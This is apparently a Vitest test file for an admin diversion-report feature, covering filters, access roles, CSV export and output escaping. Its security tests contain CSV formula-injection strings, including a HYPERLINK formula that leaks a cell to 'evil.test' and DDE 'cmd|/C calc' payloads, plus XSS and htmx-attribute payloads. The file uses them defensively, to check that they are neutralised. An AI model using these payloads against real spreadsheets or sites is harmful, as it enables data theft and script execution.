import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { distributors, diversionCases } from '../../src/channels/channel-schema.ts'
import { products } from '../../src/products/product-schema.ts'
import { auditLog } from '../../src/staff/staff-schema.ts'
import {
  BEIJING,
  insertCase,
  insertScan,
  insertSignal,
  seedOffRegionCase,
} from '../support/diversion-fixture.ts'
import { buildTestApp, insertBrand, insertStaff, signInAs } from '../support/test-app.ts'

const DAY = 86_400_000

/** Two distributors; A has 2 Shanghai scans (today) and 1 Beijing scan (60 days ago), B 3 in Shanghai. */
async function reportFixture() {
  const t = buildTestApp()
  const brand = await insertBrand(t, { slug: 'tea' })
  const a = seedOffRegionCase(t, brand.brandId, {
    distributorCode: 'GD-A',
    distributorName: 'Alpha Traders',
    sku: 'TEA-A',
    scans: 2,
  })
  const b = seedOffRegionCase(t, brand.brandId, {
    distributorCode: 'GD-B',
    distributorName: 'Bravo Traders',
    sku: 'TEA-B',
    scans: 3,
  })
  const oldAt = t.clock.now() - 60 * DAY
  const beijing = insertCase(t, {
    brandId: brand.brandId,
    distributorId: a.distributorId,
    productId: a.product.id,
    regionCode: 'CN-BJ',
    status: 'confirmed',
    at: oldAt,
  })
  const oldScan = insertScan(t, { brandId: brand.brandId, codeId: a.codes[3]!.id, place: BEIJING, at: oldAt })
  insertSignal(t, beijing, { scan: oldScan, batchId: a.batch.id })
  // A second check on one of A's Shanghai scans: the scan still counts once.
  insertSignal(t, a.case, {
    scan: a.scans[0]!,
    batchId: a.batch.id,
    kind: 'device-count',
    distanceKm: null,
    reasons: { devices: 5 },
  })
  const owner = await signInAs(t, brand.ownerId)
  return { t, brand, a, b, beijing, owner }
}

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF), dropping a leading BOM. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const s = text.replace(/^\uFEFF/, '')
  for (let i = 0; i < s.length; i++) {
    const ch = s[i]!
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && s[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}

const matrixCell = (html: string, distributorId: number, region: string) => {
  const row = new RegExp(`<tr data-distributor="${distributorId}">([\\s\\S]*?)</tr>`).exec(html)?.[1] ?? ''
  return new RegExp(`<td class="num" data-region="${region}">(?:<a [^>]*>)?(\\d*)`).exec(row)?.[1]
}

describe('the diversion report', () => {
  it('counts distinct diverted scans per distributor and region over the last 90 days by default', async () => {
    const f = await reportFixture()
    const res = await f.owner.get('/admin/diversion')
    expect(res.status).toBe(200)
    const html = await res.text()
    expect(html).toContain('value="2026-08-04"')
    expect(html).toContain('value="2026-11-01"')
    expect(matrixCell(html, f.a.distributorId!, 'CN-SH')).toBe('2')
    expect(matrixCell(html, f.b.distributorId!, 'CN-SH')).toBe('3')
    expect(matrixCell(html, f.a.distributorId!, 'CN-BJ')).toBe('1')
    expect(html).toMatch(/<table class="matrix" data-total="6">/)
    // Rows are ordered by their totals, busiest first (then by distributor code).
    const rowOrder = (page: string) =>
      [
        ...(
          /<tbody>([\s\S]*?)<\/tbody>/.exec(page.slice(page.indexOf('class="matrix"')))?.[1] ?? ''
        ).matchAll(/<tr data-distributor="(\d+)">/g),
      ].map((m) => Number(m[1]))
    expect(rowOrder(html)).toEqual([f.a.distributorId, f.b.distributorId])
    const lastWeek = await (await f.owner.get('/admin/diversion?from=2026-10-25')).text()
    expect(rowOrder(lastWeek)).toEqual([f.b.distributorId, f.a.distributorId])
    // The map shades the same totals and repeats them in its table.
    expect(html).toMatch(/<tr data-region="CN-SH"><td>Shanghai \(上海市\)<\/td><td class="num">5<\/td>/)
    expect(html).toMatch(/fill="#b30000" data-region="CN-SH"/)
  })

  it('filters by time range, distributor, product, batch, region and status', async () => {
    const f = await reportFixture()
    const totalOf = async (query: string) => {
      const html = await (await f.owner.get(`/admin/diversion?${query}`)).text()
      return Number(/<table class="matrix" data-total="(\d+)">/.exec(html)?.[1] ?? 0)
    }
    expect(await totalOf('from=2026-10-25&to=2026-11-01')).toBe(5)
    expect(await totalOf('from=2026-08-01&to=2026-09-30')).toBe(1)
    expect(await totalOf(`distributor=${f.a.distributorId}`)).toBe(3)
    expect(await totalOf(`product=${f.b.product.id}`)).toBe(3)
    expect(await totalOf(`batch=${f.a.batch.id}`)).toBe(3)
    expect(await totalOf('region=cn-bj')).toBe(1)
    expect(await totalOf('status=confirmed')).toBe(1)
    expect(await totalOf('status=open&region=CN-SH')).toBe(5)
    const none = await (await f.owner.get('/admin/diversion?status=dismissed')).text()
    expect(none).toContain('No diverted scans in this period for these filters.')
    expect(none).toContain('No case was active in this period for these filters.')
  })

  it('lists the cases active in the period, newest activity first', async () => {
    const f = await reportFixture()
    const html = await (await f.owner.get('/admin/diversion?from=2026-10-25')).text()
    const ids = [...html.matchAll(/<tr data-case="(\d+)"/g)].map((m) => Number(m[1]))
    expect(ids).toEqual([f.b.case.id, f.a.case.id])
  })

  it('answers the filter form’s htmx request with the report fragment and Vary', async () => {
    const f = await reportFixture()
    const res = await f.owner.get(`/admin/diversion?distributor=${f.b.distributorId}`, {
      'hx-request': 'true',
    })
    expect(res.headers.get('vary')).toContain('HX-Request')
    const html = await res.text()
    expect(html.startsWith('<div id="report">')).toBe(true)
    expect(html).not.toContain('<form')
    expect(html).toMatch(/<table class="matrix" data-total="3">/)
  })

  it('explains bad filters with 400 instead of failing', async () => {
    const f = await reportFixture()
    for (const [query, message] of [
      ['from=2026-11-05&to=2026-11-01', 'must be on or before'],
      ['from=yesterday', 'a date like 2026-11-01'],
      ['from=2026-02-30', 'not a calendar date'],
      ['distributor=abc', 'distributor: a number'],
      ['status=closed', 'status: open, confirmed or dismissed'],
      ['region=%3Cscript%3E', 'region: a code like CN-GD or US'],
      ['from=2020-01-01&to=2026-11-01', 'choose a shorter one'],
    ]) {
      const res = await f.owner.get(`/admin/diversion?${query}`)
      expect(res.status, query).toBe(400)
      expect(await res.text(), query).toContain(message)
      expect((await f.owner.get(`/admin/diversion/export.csv?${query}`)).status, query).toBe(400)
    }
  })

  it('is readable by analysts and operators (all-seeing, read-only roles)', async () => {
    const f = await reportFixture()
    for (const role of ['analyst', 'operator'] as const) {
      const s = await insertStaff(f.t, f.brand.brandId, { role, email: `${role}@tea.test` })
      const client = await signInAs(f.t, s.id)
      expect((await client.get('/admin/diversion')).status, role).toBe(200)
    }
  })
})

describe('the CSV export', () => {
  it('has one row per signal with the report’s filters, as a dated attachment, and is audited', async () => {
    const f = await reportFixture()
    const res = await f.owner.get(
      `/admin/diversion/export.csv?distributor=${f.a.distributorId}&from=2026-08-01`,
    )
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="diversion-2026-08-01-2026-11-01.csv"',
    )
    const rows = parseCsv(await res.text())
    expect(rows[0]).toEqual([
      'signal_id',
      'time_utc',
      'kind',
      'case_id',
      'case_status',
      'distributor_code',
      'distributor',
      'product_sku',
      'product',
      'batch_id',
      'lot',
      'serial',
      'region_code',
      'region',
      'place',
      'location_source',
      'accuracy_m',
      'confidence',
      'distance_km',
      'reasons',
    ])
    const body = rows.slice(1)
    expect(body).toHaveLength(4)
    // Oldest first: the Beijing scan of 60 days ago.
    expect(body[0]).toMatchObject({ 2: 'off-region', 4: 'confirmed', 12: 'CN-BJ', 13: 'Beijing (北京市)' })
    expect(body.map((r) => r[5])).toEqual(['GD-A', 'GD-A', 'GD-A', 'GD-A'])
    expect(body.map((r) => r[2]).sort()).toEqual(['device-count', 'off-region', 'off-region', 'off-region'])
    const shanghai = body.find((r) => r[2] === 'off-region' && r[12] === 'CN-SH')!
    expect(shanghai[11]).toBe(f.a.codes[0]!.serial)
    expect(shanghai[14]).toBe('Shanghai')
    expect(shanghai.slice(15)).toEqual([
      'gps',
      '25',
      '0.90',
      '1210.0',
      'text=Scanned in Shanghai, outside the sales regions of GD-001 (Guangdong).; rule=outside sales regions; allowed=CN-GD',
    ])

    const audit = f.t.db.select().from(auditLog).where(eq(auditLog.action, 'diversion.report.export')).all()
    expect(audit).toHaveLength(1)
    expect(audit[0]).toMatchObject({ actorStaffId: f.brand.ownerId, subjectId: '2026-08-01..2026-11-01' })
    expect(audit[0]!.detail).toMatchObject({ distributor: String(f.a.distributorId), from: '2026-08-01' })
  })

  it('streams every row of a large export in order, across chunks', async () => {
    const t = buildTestApp()
    const brand = await insertBrand(t, { slug: 'big' })
    const seeded = seedOffRegionCase(t, brand.brandId, { distributorCode: 'GD-1', sku: 'BIG-1', scans: 1 })
    const c = seeded.case
    // 4,500 signals on one scan's code, each at its own second: more than two chunks.
    const base = t.clock.now() - 10 * DAY
    const insertMany = t.db.$client.prepare(
      `INSERT INTO diversion_signals (brand_id, case_id, kind, scan_id, code_id, distributor_id, product_id,
         batch_id, region_code, confidence, reasons, at) VALUES (?, ?, 'off-region', NULL, ?, ?, ?, ?, 'CN-SH', 0.5, '{}', ?)`,
    )
    t.db.$client.transaction(() => {
      for (let i = 0; i < 4500; i++)
        insertMany.run(
          brand.brandId,
          c.id,
          seeded.codes[0]!.id,
          seeded.distributorId,
          seeded.product.id,
          seeded.batch.id,
          base + Math.floor(i / 2) * 1000,
        )
    })()
    const owner = await signInAs(t, brand.ownerId)
    const rows = parseCsv(await (await owner.get('/admin/diversion/export.csv')).text()).slice(1)
    expect(rows).toHaveLength(4501)
    const ids = rows.map((r) => Number(r[0]))
    expect(new Set(ids).size).toBe(4501)
    const times = rows.map((r) => r[1]!)
    expect([...times].sort()).toEqual(times)
  })

  it('neutralises formulas in every text cell (CSV injection)', async () => {
    const t = buildTestApp()
    const brand = await insertBrand(t, { slug: 'csv' })
    const seeded = seedOffRegionCase(t, brand.brandId, {
      distributorCode: '@SUM(1+1)*cmd|/C calc!A0',
      distributorName: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
      sku: '+1+cmd|/C calc!A0',
      productName: '-2+3+cmd|/C calc!A0',
      scans: 1,
    })
    t.db.update(products).set({ name: '\t=1+1' }).where(eq(products.id, seeded.product.id)).run()
    t.db
      .update(distributors)
      .set({ name: '\r=HYPERLINK("http://evil.test")' })
      .where(eq(distributors.id, seeded.distributorId!))
      .run()
    insertSignal(t, seeded.case, {
      scan: seeded.scans[0]!,
      batchId: seeded.batch.id,
      kind: 'impossible-travel',
      reasons: { '=cmd': '=1+2' },
    })
    const owner = await signInAs(t, brand.ownerId)
    const rows = parseCsv(await (await owner.get('/admin/diversion/export.csv')).text()).slice(1)
    expect(rows).toHaveLength(2)
    for (const row of rows)
      for (const [i, cell] of row.entries()) {
        // A number column may be negative-free digits; every text cell must start harmlessly.
        expect(/^[=+\-@\t\r]/.test(cell), `column ${i}: ${JSON.stringify(cell)}`).toBe(false)
      }
    const row = rows[0]!
    expect(row[5]).toBe("'@SUM(1+1)*cmd|/C calc!A0")
    expect(row[6]).toBe('\'\r=HYPERLINK("http://evil.test")')
    expect(row[7]).toBe("'+1+cmd|/C calc!A0")
    expect(row[8]).toBe("'\t=1+1")
    const travel = rows.find((r) => r[2] === 'impossible-travel')!
    expect(travel[19]).toBe("'=cmd==1+2")
  })
})

describe('stored markup on the diversion pages comes back as text', () => {
  const PAYLOADS = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '<svg/onload=alert(1)>',
    '"><div hx-get="/admin/staff" hx-trigger="load">',
    '" hx-on:click="alert(1)',
    '<button hx-on:click="alert(1)">x</button>',
    "' hx-post='/admin/sign-out' hx-trigger='load",
  ]

  it('escapes distributor, product, lot, place, reasons and note on the case, list and report pages', async () => {
    const t = buildTestApp()
    const brand = await insertBrand(t, { slug: 'xss' })
    const cases = PAYLOADS.map((payload, i) => {
      const seeded = seedOffRegionCase(t, brand.brandId, {
        distributorCode: `X-${i}${payload}`.slice(0, 60),
        distributorName: payload,
        sku: `SKU-${i}`,
        productName: payload,
        scans: 1,
        place: { ...BEIJING, placeEn: payload, placeZh: payload },
      })
      insertSignal(t, seeded.case, {
        scan: seeded.scans[0]!,
        batchId: seeded.batch.id,
        kind: 'device-count',
        reasons: { [payload]: payload },
      })
      t.db
        .update(diversionCases)
        .set({
          status: 'dismissed',
          note: payload,
          decidedByStaffId: brand.ownerId,
          decidedAt: t.clock.now(),
        })
        .where(eq(diversionCases.id, seeded.case.id))
        .run()
      return seeded.case.id
    })
    const owner = await signInAs(t, brand.ownerId)
    const pages = [
      '/admin/diversion',
      '/admin/diversion/cases',
      ...cases.map((id) => `/admin/diversion/cases/${id}`),
    ]
    for (const path of pages) {
      const html = await (await owner.get(path)).text()
      const withoutOwn = html.replace(/<script\b[^>]*\bsrc="\/static\/[^"]*"[^>]*><\/script>/gi, '')
      expect(/<script/i.test(withoutOwn), `${path}: a <script> tag`).toBe(false)
      for (const payload of PAYLOADS) expect(html.includes(payload), `${path}: ${payload}`).toBe(false)
      for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
        const bare = tag.replace(/"[^"]*"/g, '""')
        expect(/\son[a-z]+\s*=/i.test(bare), `${path}: ${tag}`).toBe(false)
        expect(/\shx-on[:-]/i.test(bare), `${path}: ${tag}`).toBe(false)
        expect(/\shx-(get|post)=["']?\/admin\/(staff|sign-out)/i.test(tag), `${path}: ${tag}`).toBe(false)
      }
    }
  })
})
